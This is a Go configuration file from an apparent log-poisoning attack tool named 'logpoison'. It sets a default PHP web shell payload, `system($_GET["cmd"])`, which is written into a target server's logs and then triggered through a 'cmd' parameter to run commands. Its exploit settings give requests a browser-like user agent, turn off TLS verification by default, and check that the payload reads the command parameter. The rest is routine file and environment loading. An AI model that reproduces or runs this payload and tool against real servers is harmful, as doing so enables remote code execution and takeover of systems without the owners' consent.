package config

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"gopkg.in/yaml.v3"

	"github.com/logpoison-tool/internal/catalog"
)

// DefaultPayload is planted in the log and invoked through the command parameter
const DefaultPayload = `<?php system($_GET["cmd"]); ?>`

// DefaultUserAgent is the browser-like profile used for every non-poisoning request
const DefaultUserAgent = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36"

// Config represents the application configuration. It is built once at
// startup and passed by pointer to every component; nothing mutates it
// after the command line overrides have been applied.
type Config struct {
	// General settings
	LogLevel  string `yaml:"log_level"`
	LogFormat string `yaml:"log_format"`

	Exploit   ExploitConfig   `yaml:"exploit"`
	Transport TransportConfig `yaml:"transport"`
	Cache     CacheConfig     `yaml:"cache"`

	// Readability indicators and the log catalog are external data
	Indicators []string        `yaml:"indicators"`
	Catalog    catalog.Catalog `yaml:"catalog"`
}

type ExploitConfig struct {
	Payload           string `yaml:"payload"`
	CommandParam      string `yaml:"command_param"`
	DefaultUserAgent  string `yaml:"default_user_agent"`
	MaxOutputLines    int    `yaml:"max_output_lines"`
	MaxContentPreview int    `yaml:"max_content_preview"`
}

type TransportConfig struct {
	Timeout         int    `yaml:"timeout"`
	VerifySSL       bool   `yaml:"verify_ssl"`
	FollowRedirects bool   `yaml:"follow_redirects"`
	MaxRedirects    int    `yaml:"max_redirects"`
	MaxBodySize     int    `yaml:"max_body_size"`
	Proxy           string `yaml:"proxy"`
}

type CacheConfig struct {
	Enabled       bool   `yaml:"enabled"`
	Dir           string `yaml:"dir"`
	RedisAddr     string `yaml:"redis_addr"`
	RedisPassword string `yaml:"redis_password"`
	RedisDB       int    `yaml:"redis_db"`
	TTL           int    `yaml:"ttl"`
}

// RequestTimeout returns the per-request timeout
func (c *Config) RequestTimeout() time.Duration {
	return time.Duration(c.Transport.Timeout) * time.Second
}

// CacheTTL returns how long scan results stay cached
func (c *Config) CacheTTL() time.Duration {
	return time.Duration(c.Cache.TTL) * time.Second
}

// DefaultHeaders returns the browser-like header profile
func (c *Config) DefaultHeaders() map[string]string {
	return map[string]string{"User-Agent": c.Exploit.DefaultUserAgent}
}

// Default returns a configuration populated with defaults only
func Default() *Config {
	config := &Config{}
	setDefaults(config)
	return config
}

// Load loads configuration from file and environment variables
func Load() (*Config, error) {
	config := Default()

	// Load from config file
	if err := loadFromFile(config, defaultPaths()); err != nil {
		return nil, fmt.Errorf("failed to load config file: %w", err)
	}

	// Override with environment variables
	if err := loadFromEnv(config); err != nil {
		return nil, fmt.Errorf("failed to load environment variables: %w", err)
	}

	// Validate configuration
	if err := config.Validate(); err != nil {
		return nil, fmt.Errorf("invalid configuration: %w", err)
	}

	return config, nil
}

// LoadFile loads configuration from an explicit file on top of the defaults
func LoadFile(path string) (*Config, error) {
	config := Default()

	if _, err := os.Stat(path); err != nil {
		return nil, fmt.Errorf("config file %s: %w", path, err)
	}
	if err := loadFromFile(config, []string{path}); err != nil {
		return nil, fmt.Errorf("failed to load config file: %w", err)
	}
	if err := loadFromEnv(config); err != nil {
		return nil, fmt.Errorf("failed to load environment variables: %w", err)
	}
	if err := config.Validate(); err != nil {
		return nil, fmt.Errorf("invalid configuration: %w", err)
	}

	return config, nil
}

func setDefaults(config *Config) {
	config.LogLevel = "info"
	config.LogFormat = "text"

	config.Exploit = ExploitConfig{
		Payload:           DefaultPayload,
		CommandParam:      "cmd",
		DefaultUserAgent:  DefaultUserAgent,
		MaxOutputLines:    50,
		MaxContentPreview: 200,
	}

	config.Transport = TransportConfig{
		Timeout:         10,
		VerifySSL:       false,
		FollowRedirects: true,
		MaxRedirects:    10,
		MaxBodySize:     10485760, // 10MB
	}

	config.Cache = CacheConfig{
		Enabled: true,
		Dir:     defaultCacheDir(),
		TTL:     1800,
	}

	config.Indicators = append([]string(nil), catalog.DefaultIndicators...)
	config.Catalog = catalog.Default()
}

// defaultCacheDir keeps scan results between runs when no Redis is configured
func defaultCacheDir() string {
	base, err := os.UserCacheDir()
	if err != nil {
		base = os.TempDir()
	}
	return filepath.Join(base, "logpoison")
}

func defaultPaths() []string {
	return []string{
		"./configs/default.yaml",
		expandPath("~/.logpoison.yaml"),
		"/etc/logpoison/config.yaml",
	}
}

func loadFromFile(config *Config, configPaths []string) error {
	for _, path := range configPaths {
		if _, err := os.Stat(path); err == nil {
			data, err := os.ReadFile(path)
			if err != nil {
				continue
			}

			if err := yaml.Unmarshal(data, config); err != nil {
				return fmt.Errorf("failed to parse config file %s: %w", path, err)
			}
			config.Cache.Dir = expandPath(config.Cache.Dir)

			return nil
		}
	}

	// No config file found, use defaults
	return nil
}

func loadFromEnv(config *Config) error {
	if level := os.Getenv("LOGPOISON_LOG_LEVEL"); level != "" {
		config.LogLevel = level
	}
	if proxy := os.Getenv("LOGPOISON_PROXY"); proxy != "" {
		config.Transport.Proxy = proxy
	}
	if addr := os.Getenv("LOGPOISON_REDIS_ADDR"); addr != "" {
		config.Cache.RedisAddr = addr
	}
	if dir := os.Getenv("LOGPOISON_CACHE_DIR"); dir != "" {
		config.Cache.Dir = expandPath(dir)
	}
	if password := os.Getenv("LOGPOISON_REDIS_PASSWORD"); password != "" {
		config.Cache.RedisPassword = password
	}
	if timeout := os.Getenv("LOGPOISON_TIMEOUT"); timeout != "" {
		seconds, err := strconv.Atoi(timeout)
		if err != nil {
			return fmt.Errorf("LOGPOISON_TIMEOUT: %w", err)
		}
		config.Transport.Timeout = seconds
	}

	return nil
}

// Validate checks the configuration for values no component can work with
func (c *Config) Validate() error {
	if c.Transport.Timeout < 1 || c.Transport.Timeout > 300 {
		return fmt.Errorf("invalid timeout: must be between 1 and 300 seconds")
	}

	if c.Transport.MaxRedirects < 0 {
		return fmt.Errorf("invalid max_redirects: must not be negative")
	}

	if c.Exploit.MaxOutputLines < 1 {
		return fmt.Errorf("invalid max_output_lines: must be positive")
	}

	if c.Exploit.MaxContentPreview < 0 {
		return fmt.Errorf("invalid max_content_preview: must not be negative")
	}

	if strings.TrimSpace(c.Exploit.Payload) == "" {
		return fmt.Errorf("payload must not be empty")
	}

	if c.Exploit.CommandParam == "" {
		return fmt.Errorf("command_param must not be empty")
	}

	if !readsParam(c.Exploit.Payload, c.Exploit.CommandParam) {
		return fmt.Errorf("payload does not read command_param %q", c.Exploit.CommandParam)
	}

	if c.Cache.Enabled && c.Cache.RedisAddr == "" && c.Cache.Dir == "" {
		return fmt.Errorf("cache.dir is required when caching without redis_addr")
	}

	if len(c.Indicators) == 0 {
		return fmt.Errorf("at least one readability indicator is required")
	}

	if err := c.Catalog.Validate(); err != nil {
		return fmt.Errorf("invalid catalog: %w", err)
	}

	return nil
}

// readsParam reports whether the payload indexes a request array with param,
// quoted or bare: $_GET["cmd"], $_REQUEST['cmd'] or $_GET[cmd]
func readsParam(payload, param string) bool {
	for _, ref := range []string{`["` + param + `"]`, `['` + param + `']`, `[` + param + `]`} {
		if strings.Contains(payload, ref) {
			return true
		}
	}
	return false
}

func expandPath(path string) string {
	if strings.HasPrefix(path, "~/") {
		home, err := os.UserHomeDir()
		if err != nil {
			return path
		}
		return filepath.Join(home, path[2:])
	}
	return path
}

// Overrides carries command line settings that take precedence over the
// file and environment. Zero values leave the loaded setting alone.
type Overrides struct {
	LogLevel        string
	Proxy           string
	Timeout         int
	UserAgent       string
	FollowRedirects *bool
	VerifySSL       bool
	NoCache         bool
}

// ApplyOverrides merges command line settings and re-validates. It must be
// called before the configuration is handed to any component.
func (c *Config) ApplyOverrides(o Overrides) error {
	if o.LogLevel != "" {
		c.LogLevel = o.LogLevel
	}
	if o.Proxy != "" {
		c.Transport.Proxy = o.Proxy
	}
	if o.Timeout > 0 {
		c.Transport.Timeout = o.Timeout
	}
	if o.UserAgent != "" {
		c.Exploit.DefaultUserAgent = o.UserAgent
	}
	if o.FollowRedirects != nil {
		c.Transport.FollowRedirects = *o.FollowRedirects
	}
	if o.VerifySSL {
		c.Transport.VerifySSL = true
	}
	if o.NoCache {
		c.Cache.Enabled = false
	}

	return c.Validate()
}
